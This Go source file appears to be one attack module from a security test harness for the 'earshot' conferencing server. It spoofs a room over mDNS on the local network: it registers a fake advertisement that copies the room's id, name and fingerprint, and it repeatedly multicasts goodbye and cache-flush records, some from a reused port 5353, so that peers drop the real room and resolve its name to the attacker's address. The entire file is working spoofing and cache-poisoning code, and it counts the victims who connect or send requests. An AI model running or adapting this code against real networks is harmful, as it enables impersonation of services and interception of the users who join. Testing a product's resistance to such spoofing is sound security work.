//go:build linux

package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"slices"
	"sync/atomic"
	"time"

	"github.com/grandcat/zeroconf"
	"github.com/miekg/dns"

	"github.com/earshot/earshot/sfu/identity"
)

const (
	service   = "_earshot._tcp"
	multicast = "224.0.0.251:5353"
)

// spoof says by mDNS that the room is here: under its own instance name, id, name and fingerprint, and again and again that
// the real one is gone. Whoever comes must notice before they say anything: it wins when somebody asks it for something, or
// offers to join.
func spoof(ctx context.Context, t target) (result, error) {
	device, err := net.InterfaceByName(t.device)
	if err != nil {
		return result{}, err
	}
	own, err := ownAddress(device)
	if err != nil {
		return result{}, err
	}
	key, err := identity.New()
	if err != nil {
		return result{}, err
	}
	listener, err := tls.Listen("tcp4", net.JoinHostPort(own.String(), "0"), &tls.Config{Certificates: []tls.Certificate{key}, MinVersion: tls.VersionTLS13})
	if err != nil {
		return result{}, err
	}
	var asked, came atomic.Int64
	server := &http.Server{
		ReadHeaderTimeout: time.Second,
		ErrorLog:          log.New(io.Discard, "", 0),
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew {
				came.Add(1)
			}
		},
		Handler: http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }),
	}
	go func() { _ = server.Serve(listener) }()
	defer func() { _ = server.Close() }()

	instance, err := instanceOf(ctx, t, device)
	if err != nil {
		return result{}, err
	}
	port := listener.Addr().(*net.TCPAddr).Port //nolint:forcetypeassert // what it is
	text := []string{"v=1", "id=" + t.id, "name=" + t.name, "fp=" + t.print, "ep=9", "pin=0"}
	fake, err := zeroconf.RegisterProxy(instance, service, "local.", port, instance, []string{own.String()}, text, []net.Interface{*device})
	if err != nil {
		return result{}, err
	}
	defer fake.Shutdown()
	said, err := sayGoodbyes(ctx, instance, own, port)
	if err != nil {
		return result{}, err
	}
	return result{Won: asked.Load() > 0, Tried: said, Detail: fmt.Sprintf("%d came, %d asked", came.Load(), asked.Load())}, nil
}

func ownAddress(device *net.Interface) (net.IP, error) {
	addresses, err := device.Addrs()
	if err != nil {
		return nil, err
	}
	for _, a := range addresses {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			return n.IP.To4(), nil
		}
	}
	return nil, fmt.Errorf("%s has no IPv4 address", device.Name)
}

// instanceOf listens for the room's instance name.
func instanceOf(ctx context.Context, t target, device *net.Interface) (string, error) {
	resolver, err := zeroconf.NewResolver(zeroconf.SelectIfaces([]net.Interface{*device}), zeroconf.SelectIPTraffic(zeroconf.IPv4))
	if err != nil {
		return "", err
	}
	found := make(chan *zeroconf.ServiceEntry, 10)
	looking, stop := context.WithTimeout(ctx, 3*time.Second)
	defer stop()
	if err := resolver.Browse(looking, service, "local.", found); err != nil {
		return "", err
	}
	for e := range found {
		if slices.Contains(e.Text, "id="+t.id) {
			return e.Instance, nil
		}
	}
	return "", fmt.Errorf("room %s is not advertised", t.id)
}

// sayGoodbyes sends, for as long as there is time, goodbyes in the room's name, and records that flush what others remember
// of it (RFC 6762 §10.1, §10.2).
func sayGoodbyes(ctx context.Context, instance string, own net.IP, port int) (said int64, err error) {
	to, err := net.ResolveUDPAddr("udp4", multicast)
	if err != nil {
		return 0, err
	}
	c, err := net.DialUDP("udp4", nil, to) // not from 5353, which a careful reader notices; and from there
	if err != nil {
		return 0, err
	}
	defer func() { _ = c.Close() }()
	from5353, err := (&net.ListenConfig{Control: reusePort}).ListenPacket(ctx, "udp4", net.JoinHostPort(own.String(), "5353"))
	if err != nil {
		return 0, err
	}
	defer func() { _ = from5353.Close() }()
	name := instance + "." + service + ".local."
	header := func(kind uint16, ttl uint32, flush uint16) dns.RR_Header {
		return dns.RR_Header{Name: name, Rrtype: kind, Class: dns.ClassINET | flush, Ttl: ttl}
	}
	const flush = 1 << 15
	goodbye := new(dns.Msg)
	goodbye.Response = true
	pointer := header(dns.TypePTR, 0, 0)
	pointer.Name = service + ".local."
	goodbye.Answer = []dns.RR{
		&dns.PTR{Hdr: pointer, Ptr: name}, &dns.SRV{Hdr: header(dns.TypeSRV, 0, flush), Target: "nowhere.local."}, &dns.TXT{Hdr: header(dns.TypeTXT, 0, flush), Txt: []string{""}},
	}
	stolen := new(dns.Msg)
	stolen.Response = true
	stolen.Answer = []dns.RR{
		&dns.SRV{Hdr: header(dns.TypeSRV, 120, flush), Port: uint16(port), Target: instance + ".local."}, //nolint:gosec // a port
		&dns.A{Hdr: dns.RR_Header{Name: instance + ".local.", Rrtype: dns.TypeA, Class: dns.ClassINET | flush, Ttl: 120}, A: own},
	}
	for tick := time.NewTicker(50 * time.Millisecond); ; {
		for _, m := range []*dns.Msg{goodbye, stolen} {
			b, err := m.Pack()
			if err != nil {
				return said, err
			}
			_, _ = c.Write(b)
			_, _ = from5353.WriteTo(b, to)
			said += 2
		}
		select {
		case <-ctx.Done():
			tick.Stop()
			return said, nil
		case <-tick.C:
		}
	}
}
